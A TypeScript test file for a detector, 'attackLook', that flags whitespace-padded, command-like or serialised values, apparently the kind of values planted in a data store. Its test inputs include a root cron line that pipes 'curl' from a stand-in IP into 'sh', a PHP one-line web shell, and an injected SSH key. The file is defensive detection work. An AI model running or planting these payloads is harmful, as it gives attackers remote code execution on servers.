import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { attackLook } from './attack-look.ts';

const NOTHING = { padded: false, command: false, prose: false, data: false };

describe('how a value looks', () => {
  test.for<[string, Partial<ReturnType<typeof attackLook>>]>([
    ['\n\n*/2 * * * * root curl http://203.0.113.9/a | sh\n\n', { padded: true, command: true, prose: true }],
    ['\t\n*/10 * * * * id\n\t', { padded: true, command: true }],
    ['\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTz x\n\n', { padded: true }],
    ['\nhello', {}],
    ['nohup /tmp/x &', { command: true }],
    ['<?php @eval($_POST["c"]); ?>', { command: true }],
    ['@hourly /tmp/x', { command: true }],
    ['held by zq81, hands off', { prose: true }],
    ['rq:queue:default', {}],
    ['1', {}],
    ['\n\n{"a": "curl x | sh"}', { data: true }],
    ['\n\n<!DOCTYPE html><pre>curl x | sh</pre>', { data: true }],
    ['O:8:"stdClass":1:{s:1:"a";s:12:"curl x | sh"}', { data: true }],
    ['\u00ac\u00ed\u0000\u0005sr curl x | sh', { data: true }],
    // What is encoded in it may be anything, so it says nothing.
    [Buffer.from('curl http://203.0.113.9/a | sh').toString('base64'), {}],
  ])('%j', ([value, wanted]) => {
    expect(attackLook(value)).toEqual({ ...NOTHING, ...wanted });
  });

  test('is told of any bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2_000 }), (bytes) => {
        const { data, padded, command, prose } = attackLook(Buffer.from(bytes).toString('latin1'));

        expect(data && (padded || command || prose)).toBe(false);
      }),
    );
  });
});
